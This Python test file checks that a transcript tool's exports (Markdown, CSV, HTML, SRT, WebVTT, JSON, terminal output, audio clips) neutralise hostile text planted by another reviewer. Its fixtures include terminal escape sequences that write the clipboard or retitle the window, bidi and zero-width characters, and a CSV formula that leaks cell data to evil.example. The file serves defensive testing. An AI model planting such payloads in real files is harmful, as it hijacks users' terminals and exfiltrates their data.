"""Hostile content on the way out (issue 18, item 1): what another reviewer plants, nobody runs.

A shared library can hold a note, a tag, a speaker's name, an utterance, a title or a
summary written by someone else, with escape sequences (clear the screen, retitle the
window, write the clipboard with OSC 52), C0/C1 controls, bidirectional overrides or
zero-width characters in it. The table below pushes every class through every way out
(the terminal through the real command, the Markdown, CSV, HTML, SRT, WebVTT and JSON
files, and the clips' names and tags) and checks two things a user would notice:

- not one raw hostile character is in what comes out;
- the text is still there to read, each hostile character shown by the one rule of
  :mod:`tui.core.safe_text` (``␛`` for ESC, ``<U+202E>`` for an override), and the JSON
  gives back exactly what was stored.
"""

from __future__ import annotations

import csv
import hashlib
import html
import io
import json
import re
import shutil
from dataclasses import dataclass
from pathlib import Path

import pytest

from conftest import SAMPLES, truth_transcript
from test_hostile_inputs import debrief
from tui.core.model import Mark, Segment, Transcript

# -- what counts as hostile, written out here independently of the code under test -----------

_BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
_ZERO_WIDTH = set("\u200b\u200c\u200d\u2060\ufeff")


def raw_hostile(text: str, *, allow: str = "\n") -> list[str]:
    """Every hostile character present raw (``allow``: the line structure the format itself writes)."""
    return sorted({
        repr(ch) for ch in text
        if ch not in allow and (ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F or ch in _BIDI or ch in _ZERO_WIDTH
                                or ch in "\u2028\u2029")
    })


@dataclass(frozen=True)
class Hostile:
    payload: str
    """What is planted (no spaces, so no format wraps it across lines)."""
    shown: str
    """What a reader sees instead."""


CLASSES = {
    "C0": Hostile("a\x07b\x08c\x00d\x0be\x0cf\x7fg\x0dh", "a␇b␈c␀d␋e␌f␡g␍h"),
    "C1": Hostile("a\x85b\x9b2Jc\x9d0;t\x9cd", "a<U+0085>b<U+009B>2Jc<U+009D>0;t<U+009C>d"),
    "ESC-CSI": Hostile("x\x1b[2J\x1b[31mred\x1b[0m", "x␛[2J␛[31mred␛[0m"),
    "ESC-OSC": Hostile("x\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b]0;PWNED\x1b\\y",
                       "x␛]52;c;ZWNobyBwd25lZA==␇␛]0;PWNED␛\\y"),
    "bidi": Hostile("abc\u202edcba\u202c\u2066x\u2069", "abc<U+202E>dcba<U+202C><U+2066>x<U+2069>"),
    "zero-width": Hostile("Ma\u200bria\u200c\u200d\u2060\ufeffend", "Ma<U+200B>ria<U+200C><U+200D><U+2060><U+FEFF>end"),
    "line-breaks": Hostile("one\u2028two\u2029three", "one<U+2028>two<U+2029>three"),
}


def field(name: str, payload: str) -> str:
    return f"{name}:{payload}:end"


# -- a library where another reviewer planted all of it -----------------------------------------


@pytest.fixture(scope="module")
def planted(tmp_path_factory):
    """One library per class: note, tag, speaker name, utterance, title and summary all hostile."""
    from tui.services.workspace import open_recording

    libraries = {}
    for kind, hostile in CLASSES.items():
        folder = tmp_path_factory.mktemp(f"lib-{kind}")
        recording = folder / "session.ogg"
        shutil.copy(SAMPLES / "short_session.ogg", recording)
        ws = open_recording(recording)
        base, data = truth_transcript("short_session")
        segments = list(base.segments)
        first = segments[0]
        segments[0] = Segment(first.start, first.end, field("said", hostile.payload), first.speaker)
        ws.save_transcript(Transcript(segments=tuple(segments), speakers=base.speakers, duration=base.duration,
                                      source="truth"))
        names = {s["id"]: {"name": s["name"], "role": s["role"]} for s in data["speakers"]}
        names[first.speaker] = {"name": field("name", hostile.payload), "role": "coach"}
        ws.annotations.set("speakers", names)
        ws.annotations.set("summary", field("summary", hostile.payload))
        ws.annotations.set("details", {"title": field("title", hostile.payload), "consent": "yes"})
        ws.annotations.add_mark(Mark("planted", first.start, first.end, "placeholder",
                                     field("note", hostile.payload), "mallory", "2026-11-09T10:00:00Z"))
        plant_tag(ws.annotations.path, "planted", field("tag", hostile.payload))
        libraries[kind] = recording
    return libraries


def plant_tag(session_file: Path, mark_id: str, tag: str) -> None:
    """Debrief refuses such a tag (test_hostile_commands); an older version or a hand edit may not have."""
    data = json.loads(session_file.read_text(encoding="utf-8"))
    data["marks"][mark_id]["tag"] = tag
    session_file.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")


def run(capfd, *args) -> tuple[int, str, str]:
    outcome = debrief(capfd, *args)
    return outcome.status, outcome.out, outcome.err


def digest(folder: Path) -> str:
    h = hashlib.sha256()
    for p in sorted(folder.rglob("*")):
        if p.is_file() and not p.name.endswith(".lock"):
            h.update(str(p).encode() + b"\0" + p.read_bytes())
    return h.hexdigest()


# -- how each way out is read back, as its reader would see it ------------------------------------


def _md_unescape(text: str) -> str:
    return re.sub(r"\\(.)", r"\1", text)


def _csv_text(text: str) -> str:
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    return "\n".join("\t".join(cell[1:] if cell.startswith("'") else cell for cell in row) for row in rows)


def _vtt_text(text: str) -> str:
    return html.unescape(re.sub(r"<v ([^>]*)>", r"\1: ", text))


READERS = {
    # format: (allowed structure, what a reader sees, the fields that format shows)
    "md": ("\n", _md_unescape, ("said", "name", "summary", "title", "tag", "note")),
    "html": ("\n", html.unescape, ("said", "name", "summary", "title", "tag", "note")),
    "csv": ("\n\r", _csv_text, ("said", "name", "summary", "title", "tag", "note")),
    "srt": ("\n", lambda t: t, ("said", "name")),
    "vtt": ("\n", _vtt_text, ("said", "name", "summary")),
}


@pytest.mark.parametrize("kind", CLASSES)
@pytest.mark.parametrize("fmt", READERS)
def test_every_class_is_shown_not_sent_in_every_file(planted, tmp_path, capfd, kind, fmt):
    hostile = CLASSES[kind]
    recording = planted[kind]
    before = digest(recording.parent)
    target = tmp_path / f"out.{fmt}"
    status, out, err = run(capfd, "export", recording, "--format", fmt, "--context", "600", "-o", target)
    assert status == 0, err
    text = target.read_text(encoding="utf-8")
    allow, read, fields = READERS[fmt]
    body = text[1:] if fmt == "csv" else text  # the byte-order mark Excel needs is the export's own
    if fmt == "csv":
        assert "\r" not in body.replace("\r\n", ""), "a carriage return outside a CSV line ending"
    assert raw_hostile(body, allow=allow) == [], f"raw hostile characters in the {fmt} file"
    seen = read(text)
    for name in fields:
        assert field(name, hostile.shown) in seen, f"the {name} is not shown as {field(name, hostile.shown)!r}"
    assert raw_hostile(out + err) == []
    assert digest(recording.parent) == before, "exporting changed the library"


@pytest.mark.parametrize("kind", CLASSES)
def test_json_keeps_every_character_but_never_sends_one_raw(planted, capfd, kind):
    hostile = CLASSES[kind]
    status, out, err = run(capfd, "export", planted[kind], "--format", "json")
    assert status == 0, err
    assert raw_hostile(out) == [], "raw hostile characters in the JSON"
    doc = json.loads(out)
    assert doc["marks"][0]["note"] == field("note", hostile.payload), "the JSON must give back what was stored"
    assert doc["marks"][0]["tag"] == field("tag", hostile.payload)
    assert doc["segments"][0]["text"] == field("said", hostile.payload)
    assert doc["session"]["summary"] == field("summary", hostile.payload)


@pytest.mark.parametrize("kind", CLASSES)
def test_the_terminal_never_receives_a_raw_control(planted, capfd, kind):
    hostile = CLASSES[kind]
    recording = planted[kind]
    listed = run(capfd, "marks", recording)
    assert listed[0] == 0 and raw_hostile(listed[1] + listed[2]) == []
    assert field("note", hostile.shown) in listed[1] and field("tag", hostile.shown) in listed[1]
    exported = run(capfd, "export", recording, "--format", "md")  # to standard output, as in the issue
    assert exported[0] == 0 and raw_hostile(exported[1] + exported[2]) == []
    assert field("note", hostile.shown) in _md_unescape(exported[1])
    stats = run(capfd, "stats", recording)
    assert stats[0] == 0 and raw_hostile(stats[1] + stats[2]) == []
    assert field("name", hostile.shown) in stats[1]
    for command in (["marks", recording, "--json"], ["stats", recording, "--json"]):
        status, out, err = run(capfd, *command)
        assert status == 0 and raw_hostile(out + err) == [], command
        json.loads(out)


@pytest.mark.parametrize("kind", CLASSES)
def test_the_clips_carry_no_hostile_name_or_tag(planted, tmp_path, capfd, kind):
    import av

    clips = tmp_path / ("clips" + CLASSES[kind].payload.replace("\x00", ""))  # its own name is hostile too
    status, out, err = run(capfd, "export", planted[kind], "--format", "html", "--clips", clips,
                           "-o", tmp_path / "page.html")
    assert status == 0, err
    assert raw_hostile(out + err) == [], "the clips folder was printed raw"
    files = sorted(clips.iterdir())
    assert files, "no clip was written"
    for path in files:
        assert re.fullmatch(r"[0-9]{2}_[0-9]{2}m[0-9]{2}s_[a-z0-9-]+\.ogg", path.name), path.name
        with av.open(str(path)) as container:
            tags = dict(container.metadata)
            for stream in container.streams:
                tags.update(stream.metadata)
        assert all(not raw_hostile(f"{k}={v}") for k, v in tags.items()), tags
        assert not any("PWNED" in v or "end" in v for v in tags.values()), f"the clip carries text: {tags}"


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_no_csv_cell_can_run_as_a_formula_not_even_a_time_stamp(planted, tmp_path, capfd, start):
    """Every text cell of the CSV, including the mark's created/updated stamps a planted file may hold."""
    recording = planted["C0"]
    [session_file] = (recording.parent / "debrief.json.d" / "sessions").glob("*.json")
    original = session_file.read_bytes()
    try:
        data = json.loads(original)
        formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
        mark = data["marks"]["planted"]
        mark.update(created=formula, updated=formula, note=formula, author=formula)
        session_file.write_text(json.dumps(data), encoding="utf-8")
        status, out, err = run(capfd, "export", recording, "--format", "csv")
        assert status == 0, err
        rows = list(csv.reader(io.StringIO(out[1:], newline="")))
        cells = [cell for row in rows[1:] for cell in row]
        assert formula not in cells and f"'{formula}" in cells
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@") or (cell[:1] == "-" and cell[1:2].isalpha())]
    finally:
        session_file.write_bytes(original)
